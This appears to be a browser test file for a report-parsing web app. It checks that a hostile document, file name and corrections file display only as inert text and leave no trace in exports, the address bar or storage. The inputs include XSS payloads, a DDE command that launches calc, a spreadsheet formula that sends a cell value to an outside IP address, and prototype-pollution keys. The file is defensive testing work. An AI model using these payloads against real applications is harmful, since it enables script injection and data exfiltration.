// A document, a name and corrections that try to run: they show as text, leave as text, and leave no trace.

import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { after, test } from "node:test";
import { closeAll, freshPage, newPage, until, untilState } from "./browser.mjs";
import { closeFirefox, newFirefoxPage, noFirefox } from "./firefox.mjs";

after(async () => {
  await closeFirefox();
  await closeAll();
});

const RUN = "globalThis.pwned=1";
const TEXT = `# <script>${RUN}</script>关于投资的报告

一、<img src=x onerror="${RUN}">主要指标

<svg onload=${RUN}>全县投资<b onclick=${RUN}>12.5万元</b>，同比增长3.2%。]]>--><!--
javascript:${RUN} {{constructor.constructor('${RUN}')()}} \${${RUN}} <iframe srcdoc="<script>parent.pwned=1</script>"></iframe>
=HYPERLINK("http://192.0.2.1/?"&A1,"产值")5万元；+cmd|' /C calc'!A0产值6万元；-2+3产值7万元；@SUM(1+1)产值8万元；＝1+1产值9万元。
`;
const NAME = '"><img src=x onerror=globalThis.pwned=1>.txt';

/** @param {any} page */
const open = page =>
  page.evaluate(
    (/** @type {string[]} */ [name, text]) => {
      const dataTransfer = new DataTransfer();
      dataTransfer.items.add(new File([text], name, { type: "text/plain" }));
      document.getElementById("drop")?.dispatchEvent(new DragEvent("drop", { dataTransfer, bubbles: true, cancelable: true }));
    },
    [NAME, TEXT],
  );

for (const [browser, openPage, skip] of /** @type {const} */ ([
  ["Chromium", newPage, false],
  ["Firefox", newFirefoxPage, noFirefox],
])) {
  test(
    `${browser}: markup, script and handlers in a document show as text, and nothing of it is in address, title, log or storage`,
    { skip },
    async () => {
      const { page, context, complaints } = await openPage();
      const title = await page.title();
      const kinds = () => page.evaluate(() => [...new Set([...document.querySelectorAll("*")].map(it => it.localName))].sort());
      await open(page);
      await untilState(page, "ready");
      assert.equal(await page.evaluate(() => document.getElementById("document")?.textContent), TEXT);
      // Select, correct and undo: names and corrections go through every view.
      await page.evaluate(() => /** @type {HTMLElement} */ (document.querySelector("#figures tr[data-figure]")).click());
      await until(page, () => document.getElementById("card")?.hidden === false);
      await page.evaluate(() => /** @type {HTMLElement} */ (document.querySelector('[data-action="dismiss"]')).click());
      await page.evaluate(() => /** @type {HTMLElement} */ (document.querySelector('[data-action="charts"]')).click());
      await until(page, () => document.querySelector("#charts h2") !== null);
      for (const kind of ["iframe", "img", "object", "embed"]) assert.ok(!(await kinds()).includes(kind), kind);
      assert.equal(await page.evaluate(() => document.querySelectorAll("body script, [onerror], [onload], [onclick], [srcdoc]").length), 0);
      // @ts-ignore
      assert.equal(await page.evaluate(() => globalThis.pwned), undefined);
      assert.equal(await page.title(), title);
      assert.doesNotMatch(await page.evaluate(() => location.href), /pwned|[#?]./);
      assert.deepEqual(complaints, []);
      assert.deepEqual(
        await page.evaluate(async () => [
          localStorage.length,
          sessionStorage.length,
          (await indexedDB.databases()).map(it => it.name),
          document.cookie,
          history.state,
        ]),
        [0, 0, [], "", null],
      );
      await context.close();
    },
  );
}

test("exports of a hostile document run nothing: no script, no handler, no formula", async () => {
  const { page, context } = await freshPage();
  await open(page);
  await untilState(page, "ready");
  /** @param {string} format */
  const download = async format => {
    const [file] = await Promise.all([
      page.waitForEvent("download"),
      page.evaluate(it => /** @type {HTMLElement} */ (document.querySelector(`[data-action="export-${it}"]`)).click(), format),
    ]);
    assert.doesNotMatch(file.suggestedFilename(), /[<>"/\\]/);
    return readFileSync(await file.path());
  };
  // A page without any policy, so that only the file itself keeps its text from running.
  const plain = await context.newPage();
  const html = (await download("html")).toString("utf8").replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, "");
  await plain.setContent(html);
  assert.ok((await plain.textContent("article"))?.includes(`<img src=x onerror="${RUN}">`));
  assert.equal(await plain.evaluate(() => document.querySelectorAll("script, img, iframe, svg, [onerror], [onload], [onclick]").length), 0);
  // @ts-ignore
  assert.equal(await plain.evaluate(() => globalThis.pwned), undefined);

  const csv = (await download("csv")).toString("utf8");
  const cells = [...csv.slice(1).matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(
    it => it[1]?.replaceAll('""', '"') ?? it[2],
  );
  assert.ok(cells.length > 50 && cells.some(it => it.includes("HYPERLINK")));
  assert.deepEqual(
    cells.filter(it => /^[=+\-@＝＋－＠\t\r\n]/.test(it) && !/^-?\d+(\.\d+)?$/.test(it)),
    [],
  );
  const workbook = (await download("xlsx")).toString("utf8");
  assert.ok(workbook.includes("HYPERLINK"));
  assert.doesNotMatch(workbook, /<f[ >]|<script|externalLink|ddeLink/);
  const markdown = (await download("markdown")).toString("utf8");
  assert.doesNotMatch(markdown, /(?<!\\)<(script|img|svg|iframe|b)\b/);
  for (const format of ["json", "annotations"]) JSON.parse((await download(format)).toString("utf8"));
});

test("corrections and an exported report that carry markup are text, too", async () => {
  const { page } = await freshPage();
  await page.setInputFiles("#open-file", {
    name: "a.txt",
    mimeType: "text/plain",
    buffer: Buffer.from("全县投资12.5万元，同比增长3.2%。"),
  });
  await untilState(page, "ready");
  const hostile = `<img src=x onerror=${RUN}>`;
  const file = {
    format: "shugang-corrections",
    formatVersion: 1,
    dictionary: { nonFigures: [hostile], indicators: { 投资: hostile, __proto__: hostile, constructor: hostile } },
    documents: {},
  };
  await page.setInputFiles("#open-file", { name: "c.json", mimeType: "application/json", buffer: Buffer.from(JSON.stringify(file)) });
  await until(page, hostile => document.getElementById("figures")?.textContent?.includes(hostile), hostile);
  assert.equal(await page.locator("img").count(), 0);
  // @ts-ignore
  assert.equal(await page.evaluate(() => globalThis.pwned ?? Object.prototype.pwned), undefined);
});
